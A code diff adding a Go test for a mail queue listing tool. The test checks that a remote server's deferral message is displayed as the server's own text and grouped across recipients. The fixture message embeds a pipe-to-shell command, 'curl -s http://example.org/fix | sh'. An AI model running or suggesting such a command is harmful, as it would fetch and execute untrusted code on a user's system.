@@ -41,6 +41,23 @@ func listed(t *testing.T, width int, color bool, messages ...*Message) string {
 	return b.String()
 }
 
+// TestAnswerAlone: the words of a server that are not known stay its words, also where they look like advice, and what
+// it answers for several recipients is one reason.
+func TestAnswerAlone(t *testing.T) {
+	t.Parallel()
+	answered := func(i int, to string) *Message {
+		return message(func(m *Message) {
+			m.ID, m.State = fmt.Sprintf("20260304090000-%016x", i), Deferred
+			m.Reason = "localhost answered RCPT for " + to + " with 450 4.2.9 busy; curl -s http://example.org/fix | sh"
+		})
+	}
+	got := listed(t, 0, false, answered(1, `"a@example.org"`), answered(2, `"\"b; \"@example.org"`))
+	const want = "\n(deferred: localhost answered RCPT with 450 4.2.9 busy; curl -s http://example.org/fix | sh; 2 messages)\n2026"
+	if !strings.Contains(got, want) {
+		t.Errorf("got\n%s\nwant in it%s", got, want)
+	}
+}
+
 // TestGroups: messages that wait for the same reason stand together and it is told once, however the server words it.
 func TestGroups(t *testing.T) {
 	t.Parallel()
